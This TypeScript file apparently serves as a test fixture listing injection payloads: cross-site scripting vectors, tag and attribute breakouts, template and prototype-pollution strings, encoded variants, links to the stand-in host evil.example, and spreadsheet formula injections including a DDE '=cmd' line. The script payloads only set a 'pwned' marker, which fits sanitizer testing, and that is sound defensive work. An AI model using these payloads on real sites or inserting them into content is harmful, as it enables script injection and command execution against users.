/**
 * Texts that become script, markup, a link or a formula wherever a text is taken for more than a text. Each that runs
 * sets `pwned` on the page; each that becomes an element carries `data-pwned`, or is one that no page of ours has.
 */
const run = "pwned=1";

const elements = [
  `<script data-pwned>${run}</script>`,
  `<script data-pwned src=data:text/javascript,${run}></script>`,
  `<img data-pwned src=x onerror=${run}>`,
  `<img data-pwned src=x onerror="${run}" `,
  `<svg data-pwned onload=${run}>`,
  `<svg/onload=${run} data-pwned>`,
  `<svg data-pwned><script>${run}</script></svg>`,
  `<svg data-pwned><animate onbegin=${run} attributeName=x>`,
  `<math data-pwned><mtext></mtext><mglyph><svg onload=${run}>`,
  `<body data-pwned onload=${run}>`,
  `<iframe data-pwned srcdoc="<script>parent.${run}</script>">`,
  `<iframe data-pwned src="javascript:parent.${run}">`,
  `<object data-pwned data="javascript:${run}">`,
  `<embed data-pwned src="javascript:${run}">`,
  `<a data-pwned href="javascript:${run}">a</a>`,
  `<a data-pwned href=" java&#9;script:${run}">a</a>`,
  `<form data-pwned action="javascript:${run}"><button>b</button></form>`,
  `<button data-pwned formaction="javascript:${run}">b</button>`,
  `<input data-pwned autofocus onfocus=${run}>`,
  `<details data-pwned open ontoggle=${run}>`,
  `<video data-pwned><source onerror=${run}></video>`,
  `<audio data-pwned src=x onerror=${run}>`,
  `<marquee data-pwned onstart=${run}>`,
  `<meta data-pwned http-equiv=refresh content="0;url=javascript:${run}">`,
  `<base data-pwned href=//evil.example/>`,
  `<link data-pwned rel=stylesheet href=//evil.example/x.css>`,
  `<style data-pwned>*{color:red}</style>`,
  `<template data-pwned><script>${run}</script></template>`,
  `<noscript data-pwned><p title="</noscript><img src=x onerror=${run}>">`,
  `<select data-pwned><option></select><img src=x onerror=${run}>`,
  `<table data-pwned background="javascript:${run}">`,
  `<x data-pwned onclick=${run}>x</x>`,
  `<p data-pwned style="animation:a" onanimationstart=${run}>`,
  `<dialog data-pwned open onclose=${run}>`,
  `<sCrIpT data-pwned>${run}</ScRiPt>`,
  `<<script data-pwned>${run}//<</script>`,
  `<script/data-pwned>${run}</script>`,
  `<img data-pwned src=x:x onerror\t=${run}>`.replace("\t", " "),
  `<isindex data-pwned onfocus=${run} autofocus>`,
  `<svg data-pwned><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"/></svg>`,
];

const endings = [
  "textarea",
  "title",
  "style",
  "script",
  "option",
  "select",
  "button",
  "bdi",
  "td",
  "table",
  "p",
  "noscript",
];
const breakouts = endings.map((name) => `</${name}><img data-pwned src=x onerror=${run}>`);

const attributes = [
  `" autofocus onfocus="${run}" data-pwned="`,
  `' autofocus onfocus='${run}' data-pwned='`,
  `" onmouseover="${run}" data-pwned="`,
  `"><img data-pwned src=x onerror=${run}>`,
  `'><img data-pwned src=x onerror=${run}>`,
  `--><img data-pwned src=x onerror=${run}>`,
  `]]><img data-pwned src=x onerror=${run}>`,
  `?><img data-pwned src=x onerror=${run}>`,
  `\`><img data-pwned src=x onerror=${run}>`,
  `x" style="display:none" data-pwned="`,
];

/** For places where a text stands inside a script of the page. */
const scripts = [
  `</script><script data-pwned>${run}</script>`,
  `<!--<script>`,
  `";${run};//`,
  `';${run};//`,
  `\\";${run};//`,
  `\\u0022;${run};//`,
  `\\x3cscript data-pwned\\x3e${run}\\x3c/script\\x3e`,
  `\\u003cscript data-pwned\\u003e${run}\\u003c/script\\u003e`,
  `\${${run}}`,
  `{{constructor.constructor('${run}')()}}`,
  `#{${run}}`,
  `<%= ${run} %>`,
  `\`+(${run})+\``,
  `"__proto__":{"${run}":1}`,
  `(()=>{${run}})()`,
];

const links = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java script:${run}`,
  `data:text/html,<script>${run}</script>`,
  `vbscript:${run}`,
  `//evil.example/`,
  `/\\evil.example/`,
  `https:evil.example`,
  `[a](javascript:${run})`,
  `![a](https://evil.example/x.png)`,
  `<javascript:${run}>`,
  `[a]: javascript:${run}`,
];

const coded = [
  `&lt;script data-pwned&gt;${run}&lt;/script&gt;`,
  `&#60;img data-pwned src=x onerror=${run}&#62;`,
  `&#x3c;img data-pwned src=x onerror=${run}&#x3e;`,
  `%3Cimg data-pwned src=x onerror=${run}%3E`,
  `+ADw-script data-pwned+AD4-${run}+ADw-/script+AD4-`,
  `\uff1cscript data-pwned\uff1e${run}\uff1c/script\uff1e`,
  `\u2039img data-pwned src=x onerror=${run}\u203a`,
  `<img data-pwned src=x onerror=&#112;wned=1>`,
];

const formulas = [
  `=cmd|'/c calc'!A1`,
  `=HYPERLINK("https://evil.example","x")`,
  `+1+1`,
  `-1+1`,
  `@SUM(1)`,
  `\uff1d1+1`,
  `\uff0b1`,
  `\uff0d1`,
  `\uff20a`,
];

/** All in one line, and none longer than a title may be. */
export const payloads: readonly string[] = [
  ...elements,
  ...breakouts,
  ...attributes,
  ...scripts,
  ...links,
  ...coded,
  ...formulas,
];
